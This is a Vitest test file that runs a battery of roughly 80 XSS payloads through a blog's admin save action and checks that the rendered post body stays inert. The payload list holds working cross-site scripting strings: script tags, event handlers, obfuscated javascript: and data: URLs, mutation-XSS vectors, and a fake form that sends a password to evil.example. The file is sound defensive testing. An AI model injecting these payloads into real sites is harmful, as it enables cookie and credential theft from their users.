import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { blogPosts, type BlogPost } from '@/db/schema';
import { withUserAndAdmin } from '../../../tests/setup/app-under-test';
import { decodeAttribute } from '../../../tests/setup/html-attributes';
import { asVisitor } from '../../../tests/setup/next-headers';
import { savePost } from './admin-actions';
import { localizePost } from './localize';
import { BODY_ALLOWED_TAGS, renderBody } from './render-body';

/**
 * The XSS battery through the admin form: every payload is saved with `savePost` (as an admin,
 * through the wrapper's normalisation and the form's schema) in the body of both languages and
 * in every text field and list, then the stored body is rendered by `renderBody` — what the
 * public page and the form's live preview show. Nothing that can run script may come out. (The
 * page renders titles, excerpts, bullet points and link titles as React text, escaped; external
 * link URLs only when they are http(s).)
 */
vi.mock('next/headers', () => import('../../../tests/setup/next-headers'));
vi.mock('next/cache', () => import('../../../tests/setup/next-cache'));

const signedIn = withUserAndAdmin();

/** What an editor, a pasted text or a stolen admin session might put in a post. */
const PAYLOADS = [
  // Script elements
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</script>',
  '<<script>script>alert(1)<</script>/script>',
  '"><script>alert(document.cookie)</script>',
  '</p><script>alert(1)</script><p>',
  // Elements with handlers or URLs of their own
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  "'><img src=x onerror=alert(1)>",
  '<IMG SRC="javascript:alert(1);">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>שלח</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  // Mutation XSS
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  // Event handlers and styles on allowed tags
  '<p onclick="alert(1)">hi</p>',
  '<strong onmouseover=alert(1)>bold</strong>',
  '<u onclick=alert(1)>underline</u>',
  '<u onclick="alert(1)" style="x:expression(alert(1))">underline</u>',
  '<h2 style="position:fixed;inset:0" onmouseenter="alert(1)">heading</h2>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<li onfocus=alert(1) tabindex=1>item</li>',
  // Link URLs, plain and disguised
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  // Markdown
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '![img](x onerror=alert(1))',
  '![img](javascript:alert(1))',
  '[![img](x)](javascript:alert(1))',
  '**bold <img src=x onerror=alert(1)>**',
  '*[nested](javascript:alert(1))*',
  '<javascript:alert(1)>',
  // Unclosed and broken tags
  '<b><i>unclosed <a href="javascript:alert(1)">link',
  '<a href="https://example.com"<script>alert(1)</script>>x</a>',
  '<<img src=x onerror=alert(1)//<',
  '<img src=x onerror=alert(1)',
  '<a href="https://example.com" title="x" onmouseover="alert(1)',
];

const TAG = /<(\/?)([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s"'<>/=]+(?:="[^"<>]*")?)*)\s*(\/?)>/g;

/** What in rendered HTML could run script or leave the site; [] when it is inert. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  if (/<\s*script/i.test(html)) dangers.push('<script');
  const tags = [...html.matchAll(TAG)];
  // sanitize-html escapes "<" in text: every "<" left must open a well-formed tag.
  if (html.split('<').length - 1 !== tags.length) dangers.push('a "<" outside a clean tag');
  for (const [, , rawName, rawAttributes] of tags) {
    const name = rawName!.toLowerCase();
    if (!(BODY_ALLOWED_TAGS as readonly string[]).includes(name)) dangers.push(`<${name}>`);
    for (const [, attribute, value = ''] of rawAttributes!.matchAll(
      /([^\s"'<>/=]+)(?:="([^"]*)")?/g,
    )) {
      if (/^on\w+/i.test(attribute!)) dangers.push(`${attribute}=`);
      if (attribute === 'style' || attribute === 'src' || attribute === 'srcdoc')
        dangers.push(`${attribute}=`);
      if (attribute === 'href') {
        // Browsers skip control characters and spaces inside a scheme.
        const url = decodeAttribute(value)
          .replace(/[\x00-\x20]+/g, '')
          .toLowerCase();
        if (/^(javascript|data|vbscript):/.test(url)) dangers.push(`href=${url}`);
        if (/^[/\\]{2}/.test(url)) dangers.push(`href=${url} (another host)`);
      }
    }
  }
  const markup = tags.map((tag) => tag[0]).join('');
  if (/<\/?(iframe|object|embed|svg|math|style|img|form|input|link|meta|base)\b/i.test(markup))
    dangers.push('a forbidden element');
  return dangers;
}

const form = (fields: Record<string, string | string[]>) => {
  const data = new FormData();
  for (const [key, value] of Object.entries(fields)) {
    if (Array.isArray(value)) for (const item of value) data.append(`${key}[]`, item);
    else data.append(key, value);
  }
  return data;
};

type Outcome = { payload: string; post?: BlogPost; refused?: unknown; dangers: string[] };
const outcomes: Outcome[] = [];

beforeAll(async () => {
  asVisitor(signedIn.cookies.admin);
  vi.spyOn(console, 'info').mockImplementation(() => {});
  for (const [index, payload] of PAYLOADS.entries()) {
    const result = await savePost(
      null,
      form({
        language: index % 2 ? 'en' : 'he',
        blog_url: `xss-${index}`,
        title: `כותרת ${payload}`,
        subtitle: payload,
        excerpt: `תקציר ${payload}`,
        content: `פתיחה **מודגש**\n${payload}\nסיום [קישור](https://example.com)`,
        content_en: `Intro *text*\n${payload}`,
        category: payload,
        author: 'צוות אוטופיצה',
        published_date: '2026-03-01',
        bullet_points: [payload, 'נקודה'],
        bullet_points_en: [payload],
        keywords: [payload],
        external_links_title: [payload, 'קישור רגיל'],
        external_links_url: ['https://example.com/a', 'https://example.com/b'],
        internal_likes: '0',
        external_likes: '0',
        state: 'published',
      }),
    );
    if (!result.ok) {
      outcomes.push({ payload, refused: result, dangers: [] });
      continue;
    }
    const [post] = await signedIn.app.db
      .select()
      .from(blogPosts)
      .where(eq(blogPosts.id, result.data.id));
    const dangers = [post!.content, post!.contentEn].flatMap((body) => dangersIn(renderBody(body)));
    outcomes.push({ payload, post: post!, dangers });
  }
  console.log(
    `XSS battery: ${PAYLOADS.length} payloads tried, reached the page: ${
      outcomes.filter((outcome) => outcome.dangers.length > 0).length
    }`,
  );
});

describe('XSS battery through the admin form', () => {
  it(`tries at least 40 payloads (${PAYLOADS.length})`, () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    expect(outcomes).toHaveLength(PAYLOADS.length);
  });

  it('saves every payload (the form refuses no text), in every field', () => {
    for (const outcome of outcomes) {
      expect(outcome.refused, outcome.payload).toBeUndefined();
      // Stored as typed (after the form's normalisation): the rendering makes it harmless.
      expect(outcome.post!.bulletPoints![0], outcome.payload).toBe(
        outcome.payload.replace(/[\t\n\u0001]/g, (c) => (c === '\u0001' ? '' : ' ')).trim(),
      );
    }
  });

  it('lets no payload reach the page through the rendered body (the public page and the preview)', () => {
    const reached = outcomes.filter((outcome) => outcome.dangers.length > 0);
    expect(
      reached.map(({ payload, dangers }) => ({ payload, dangers })),
      'payloads that reached the page',
    ).toEqual([]);
  });

  it('keeps the ordinary markup around the payloads', () => {
    for (const { post, payload } of outcomes) {
      const html = renderBody(post!.content);
      expect(html, payload).toContain('<strong>מודגש</strong>');
      expect(html, payload).toContain(
        '<a href="https://example.com" target="_blank" rel="noopener noreferrer">קישור</a>',
      );
    }
  });

  it('shows only http(s) external links, with the payload as their (escaped) title', () => {
    for (const { post, payload } of outcomes) {
      const links = localizePost(post!, post!.language).externalLinks;
      expect(
        links.map((link) => link.url),
        payload,
      ).toEqual(['https://example.com/a', 'https://example.com/b']);
    }
  });

  it('checks itself: the detector catches unsafe HTML', () => {
    expect(dangersIn('<p onclick="x">a</p>')).not.toEqual([]);
    expect(dangersIn('<a href="&#106;avascript:alert(1)">a</a>')).not.toEqual([]);
    expect(dangersIn('<a href="java\tscript:alert(1)">a</a>')).not.toEqual([]);
    expect(dangersIn('<a href="//evil.example">a</a>')).not.toEqual([]);
    expect(dangersIn('<img src="x">')).not.toEqual([]);
    expect(dangersIn('<p>a <script>b</p>')).not.toEqual([]);
    expect(dangersIn('<p>a < b</p>')).not.toEqual([]);
    expect(dangersIn('<p><u>ok</u> &lt;img onerror=x&gt;</p>')).toEqual([]);
  });
});
